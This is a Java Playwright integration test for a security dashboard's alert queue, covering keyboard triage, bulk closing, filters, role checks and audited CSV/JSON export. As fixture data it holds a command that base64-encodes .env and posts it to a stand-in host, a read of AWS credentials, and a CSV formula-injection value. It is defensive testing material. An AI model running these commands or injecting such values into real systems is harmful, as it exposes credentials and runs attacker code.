package io.trailwarden.dashboard.alerts;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static com.microsoft.playwright.assertions.PlaywrightAssertions.setDefaultAssertionTimeout;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import io.trailwarden.ProgramUnderTest;
import io.trailwarden.Requests;
import io.trailwarden.dashboard.Chromium;
import io.trailwarden.identity.Roles;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// The queue of the packaged program in a real browser: by keys, by hand, and by two people at once.
class AlertsQueueIT {

    private static final String WHY = "announced in CHG-2291, the host is ours";

    private static ProgramUnderTest program;
    private static Chromium chromium;

    @BeforeAll
    static void start() {
        program = ProgramUnderTest.start();
        setDefaultAssertionTimeout(60_000);
        chromium = new Chromium(program.console());
    }

    @AfterAll
    static void end() {
        if (chromium != null) {
            chromium.close();
        }
        program.close();
    }

    @AfterEach
    void noPageDidWhatItShouldNot() {
        assertThat(chromium.complaints()).isEmpty();
    }

    @Test
    void anAnalystWorksWithoutTouchingTheMouse() throws IOException {
        var person = raisedFor("keys@example.com");
        var page = queue(Roles.ANALYST, "?person=" + person);
        var first = rows(page).nth(0);
        var second = rows(page).nth(1);
        assertThat(first).hasClass(Pattern.compile(".*\\bcur\\b.*"));

        page.keyboard().press("j");
        assertThat(second).hasClass(Pattern.compile(".*\\bcur\\b.*"));
        page.keyboard().press("x");
        assertThat(page.locator(".dock")).containsText("1 selected");
        page.keyboard().press("a");
        assertThat(second.locator(".av")).hasAttribute("title", "test-analyst");
        assertThat(page.getByText("1 selected")).not().isVisible();
        page.keyboard().press("e");
        assertThat(second.locator(".stand")).containsText("acknowledged");
        page.keyboard().press("k");
        page.keyboard().press("c");
        assertThat(page.getByText("Close this alert")).isVisible();
        page.getByText("False alarm").click();
        page.getByLabel("Why, for whoever").fill("too short");
        assertThat(page.getByText("11 characters more")).isVisible();
        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Close as false alarm"))).isDisabled();
        page.getByLabel("Why, for whoever").fill("jake reads a comment here, ckx");
        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Close as false alarm"))).isEnabled();
        page.keyboard().press("Control+Enter");

        assertThat(page.getByText("1 closed")).isVisible();
        assertThat(first.locator(".stand")).containsText("false alarm, test-analyst");
        assertThat(first).hasClass(Pattern.compile(".*\\bpast\\b.*"));
        page.keyboard().press("Enter");
        assertThat(page).hasURL(Pattern.compile(".*/alerts/[0-9a-f-]{36}.*"));
    }

    @Test
    void keysCountHoweverFastTheyFollow() throws IOException {
        var person = raisedFor("fast@example.com");
        var page = queue(Roles.ANALYST, "?person=" + person);
        var keys = program.list("/api/v1/alerts?order=gravest&person=" + person).stream().map(alert -> alert.path("id").asText()).toList();

        for (var key : new String[] {"c", "c", "e"}) {
            page.keyboard().press(key);
        }
        page.getByText("Authorised").click();
        assertThat(page.locator("vaadin-dialog[opened]")).hasCount(1);
        page.getByLabel("Why, for whoever").fill(WHY);
        assertThat(page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Close as authorised"))).isEnabled();
        for (var key : new String[] {"Control+Enter", "j", "e", "Enter"}) {
            page.keyboard().press(key);
        }

        assertThat(page).hasURL(Pattern.compile(".*/alerts/" + keys.get(1) + ".*"));
        assertThat(page.locator(".state-of")).containsText("acknowledged");
        assertThat(program.get("/api/v1/alerts/" + keys.getFirst()).path("status").asText()).isEqualTo("closed");
        assertThat(program.get("/api/v1/alerts/" + keys.getFirst()).path("closeJustification").asText()).isEqualTo(WHY);
    }

    @Test
    void keysWaitForAListThatIsStillBeingRead() throws IOException {
        var person = raisedFor("early@example.com");
        var page = queue(Roles.ANALYST, "?person=" + person);
        var keys = program.list("/api/v1/alerts?order=gravest&person=" + person).stream().map(alert -> alert.path("id").asText()).toList();
        send(person, "another", "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
        assertThat(page.getByText("since you began reading")).isVisible();

        // As somebody types who knows the keys: all of it is on its way before the list is read anew.
        page.evaluate("keys => keys.forEach(key => document.dispatchEvent(new KeyboardEvent('keydown', {key, bubbles: true})))", java.util.List.of(".", "j", "k", "e"));

        assertThat(page.locator(".alerts-row.cur .stand")).containsText("acknowledged");
        assertThat(page.locator(".alerts-row .stand").getByText("acknowledged")).hasCount(1);
        program.await(() -> program.get("/api/v1/alerts/" + keys.getFirst()).path("status").asText().equals("acknowledged"));
    }

    @Test
    void manyAreClosedTogetherAndAMistakeIsTakenBack() throws IOException {
        var person = raisedFor("bulk@example.com");
        var page = queue(Roles.ANALYST, "?person=" + person);
        rows(page).nth(0).locator("input").check();
        rows(page).nth(1).locator("input").check();

        press(page, "Close with reason");
        assertThat(page.getByText("Close 2 alerts")).isVisible();
        page.getByText("Authorised").click();
        page.getByLabel("Why, for whoever").fill(WHY);
        press(page, "Close as authorised");

        assertThat(page.getByText("2 closed")).isVisible();
        assertThat(page.locator(".alerts-row.past")).hasCount(2);
        press(page, "Undo");
        assertThat(page.locator(".alerts-row.past")).hasCount(0);
        assertThat(rows(page).nth(0).locator(".stand")).hasText("open");
    }

    @Test
    void theAddressHoldsTheFilters() throws IOException {
        var person = raisedFor("filter@example.com");
        var page = queue(Roles.VIEWER, "?person=" + person + "&severity=critical");
        int critical = rows(page).count();
        assertThat(page.locator(".chip").getByText("filter@example.com")).isVisible();
        assertThat(rows(page).locator(".sev")).hasText(java.util.Collections.nCopies(critical, "Critical").toArray(String[]::new));

        page.getByLabel("Without severity").click();
        assertThat(page).hasURL(Pattern.compile(".*\\?person=filter%40example.com$"));
        assertThat(rows(page).locator(".sev.high").first()).isVisible();
        press(page, "+ Filter");
        page.getByLabel("Title holds").fill("no alert says this");
        page.keyboard().press("Enter");
        assertThat(page).hasURL(Pattern.compile(".*text=no\\+alert\\+says\\+this.*|.*text=no%20alert%20says%20this.*"));
        assertThat(page.getByText("No alert is like this.")).isVisible();
        page.locator(".tabs a").first().click();
        assertThat(page).hasURL(program.console() + "/alerts");
        assertThat(rows(page).first()).isVisible();
    }

    @Test
    void whoMayNotWorkOnAlertsReadsAlongAndIsRefused() throws IOException {
        var person = raisedFor("viewed@example.com");
        var page = queue(Roles.VIEWER, "?person=" + person);

        assertThat(page.locator(".dock")).containsText("takes the role analyst");
        assertThat(page.locator(".alerts-row input")).hasCount(0);
        assertThat(page.locator(".dock vaadin-button")).hasCount(0);
        // What a browser that lies would send: the keys that are not offered.
        for (var key : new String[] {"x", "a", "e", "c", "Hand over to…"}) {
            page.evaluate("key => document.querySelector('.queue').dispatchEvent(new CustomEvent('tw-key', {detail: key}))", key);
        }
        assertThat(page.getByText("Working on alerts takes the role analyst.").first()).isVisible();
        assertThat(page.locator("vaadin-dialog")).hasCount(0);

        assertThat(program.list("/api/v1/alerts?person=" + person)).isNotEmpty().allSatisfy(alert -> {
            assertThat(alert.path("status").asText()).isEqualTo("open");
            assertThat(alert.path("owner").isNull()).isTrue();
        });
    }

    @Test
    void theListIsTakenAwayAsItIsFiltered() throws IOException {
        var person = raisedFor("=cmd|'/c calc'!A0@example.com");
        var page = queue(Roles.ANALYST, "?severity=critical&person=" + URLEncoder.encode(person, StandardCharsets.UTF_8));
        int critical = rows(page).count();

        press(page, "Export…");
        assertThat(page.getByText("is kept in the access log")).isVisible();
        assertThat(Chromium.barriers(page)).isEmpty();
        var csv = page.waitForDownload(() -> page.getByLabel("Download as CSV").click());
        var json = page.waitForDownload(() -> page.getByLabel("Download as JSON lines").click());

        assertThat(csv.suggestedFilename()).matches("trailwarden-alerts-[0-9T-]+Z\\.csv");
        assertThat(Files.readString(csv.path())).contains("\"'" + person + "\"").contains("\"critical\"").doesNotContain("\"high\"")
                .doesNotContain("\"" + person);
        assertThat(Files.readAllLines(csv.path())).hasSize(critical + 1);
        assertThat(json.suggestedFilename()).endsWith(".jsonl");
        assertThat(Files.readAllLines(json.path())).hasSize(critical).allSatisfy(line ->
                assertThat(new ObjectMapper().readTree(line).path("person").asText()).isEqualTo(person));

        var log = chromium.signedIn(program.account(Roles.AUDITOR), ProgramUnderTest.PASSWORD);
        log.navigate(program.console() + "/audit?what=list_exported");
        assertThat(log.locator(".audit-row:not(.rowhead)").first()).containsText(critical + (critical == 1 ? " alert" : " alerts") + " as JSON lines, narrowed to severity=critical");
        assertThat(log.locator(".audit-row:not(.rowhead)").first()).containsText("test-analyst");
    }

    @Test
    void whoMayNotTakeListsAwayGetsNoneThoughTheyKnowTheAddress() throws IOException {
        var person = raisedFor("kept@example.com");
        var viewer = queue(Roles.VIEWER, "?person=" + person);
        assertThat(viewer.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Export…"))).hasCount(0);

        var account = program.account(Roles.ENGINEER, Roles.AUDITOR);
        var page = chromium.signedIn(account, ProgramUnderTest.PASSWORD);
        page.navigate(program.console() + "/alerts?person=" + person);
        press(page, "Export…");
        var address = page.getByLabel("Download as CSV").getAttribute("href");
        assertThat(page.request().get(program.console() + "/" + address).text()).contains(person);
        program.changeRoles(account, Roles.VIEWER);

        var refused = page.request().get(program.console() + "/" + address);
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.text()).doesNotContain(person);
    }

    @Test
    void whatOneDoesAnotherSeesWhereItStandsAndWhatIsNewWaits() throws IOException {
        var person = raisedFor("two@example.com");
        var mine = queue(Roles.ANALYST, "?person=" + person);
        var theirs = queue(Roles.VIEWER, "?person=" + person);
        int before = rows(theirs).count();
        var title = rows(theirs).first().locator(".title").textContent();

        mine.keyboard().press("e");

        assertThat(rows(theirs).first().locator(".stand")).containsText("acknowledged");
        assertThat(rows(theirs).first().locator(".av")).hasAttribute("title", "test-analyst");
        send(person, "another", "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
        assertThat(theirs.getByText("since you began reading")).isVisible();
        assertThat(rows(theirs)).hasCount(before);
        assertThat(rows(theirs).first().locator(".title")).hasText(title);
        theirs.keyboard().press(".");
        assertThat(theirs.getByText("since you began reading")).not().isVisible();
        assertThat(rows(theirs)).not().hasCount(before);
    }

    @Test
    void keysCanBeSwitchedOffAndAreLettersInFields() throws IOException {
        var person = raisedFor("quiet@example.com");
        var page = queue(Roles.ANALYST, "?person=" + person);

        page.keyboard().press("?");
        page.getByText("Keys are on").click();
        press(page, "Done");
        assertThat(page.getByText("Keys are on")).hasCount(0);
        page.keyboard().press("x");
        page.keyboard().press("?");
        assertThat(page.getByText("Keys are on")).isVisible();
        assertThat(page.locator(".alerts-row.on")).hasCount(0);
        page.getByText("Keys are on").click();
        press(page, "Done");
        assertThat(page.getByText("Keys are on")).hasCount(0);
        page.locator(".find input").fill("");
        page.locator(".find input").pressSequentially("xaec");
        assertThat(page.locator(".find input")).hasValue("xaec");
        assertThat(page.locator(".alerts-row.on")).hasCount(0);
    }

    private static Page queue(String role, String query) {
        var account = program.account(role);
        var page = chromium.page();
        page.navigate(program.console() + "/login.html");
        page.locator("input[name=j_username]").fill(account);
        page.locator("input[name=j_password]").fill(ProgramUnderTest.PASSWORD);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign in")).click();
        assertThat(page.locator("vaadin-app-layout")).isVisible();
        page.navigate(program.console() + "/alerts" + query);
        assertThat(rows(page).first()).isVisible();
        return page;
    }

    private static Locator rows(Page page) {
        return page.locator(".alerts-row:not(.rowhead):visible");
    }

    private static void press(Page page, String button) {
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(button)).click();
    }

    /// Two alerts or more about `person`, one of them critical.
    private static String raisedFor(String person) throws IOException {
        send(person, "s-" + person, "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
        send(person, "t-" + person, "cat ~/.aws/credentials");
        program.await(() -> program.list("/api/v1/alerts?person=" + URLEncoder.encode(person, StandardCharsets.UTF_8)).size() >= 2);
        return person;
    }

    private static void send(String person, String session, String command) throws IOException {
        var answer = program.send("logs", "application/json", Requests.command(person, session, System.nanoTime(), command, "accept"));
        assertThat(answer.statusCode()).isEqualTo(200);
        program.awaitLoaded();
    }
}
